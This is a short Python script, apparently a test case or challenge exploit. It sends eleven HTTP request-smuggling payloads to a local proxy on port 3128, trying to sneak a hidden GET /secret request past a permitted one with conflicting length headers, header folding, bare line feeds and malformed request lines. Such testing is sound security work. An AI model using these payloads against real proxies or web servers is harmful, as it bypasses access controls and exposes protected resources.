"""Hides a second request behind an allowed one."""

# proxy: yes
import socket
from kit import *

url, second = f"http://localhost:{WEB_PORT}/ok/x", f"GET /secret HTTP/1.1\r\nHost: localhost\r\n\r\n"
heads = (
    f"GET {url} HTTP/1.1\r\nHost: a\r\n\r\n{second}",
    f"GET {url} HTTP/1.1\r\nContent-Length: {len(second)}\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{second}",
    f"GET {url} HTTP/1.1\r\nContent-Length: 0\r\nContent-Length: {len(second)}\r\n\r\n{second}",
    f"GET {url} HTTP/1.1\r\nX: a\r\n b\r\nContent-Length : {len(second)}\r\n\r\n{second}",
    f"GET {url} HTTP/1.1\r\nX: a\nContent-Length: 5\n\n{second}\r\n\r\n",
    f"GET {url} HTTP/1.1\nHost: a\n\n{second}\r\n\r\n",
    f"GET {url} HTTP/1.1\r\nX: a\r\r\n\r\n{second}",
    f"GET {url}\x0b HTTP/1.1\r\nHost: a\r\n\r\n{second}",
    f"GET {url} HTTP/1.1 HTTP/1.1\r\n\r\n{second}",
    f"GET  {url} HTTP/1.1\r\n\r\n{second}",
    f"GET {url} HTTP/1.1\r\nContent-Length: +{len(second)}\r\n\r\n{second}",
)
for head in heads:
    item = socket.create_connection(("127.0.0.1", 3128), timeout=2)
    item.sendall(head.encode())
    attempt(lambda: print(item.recv(60)))
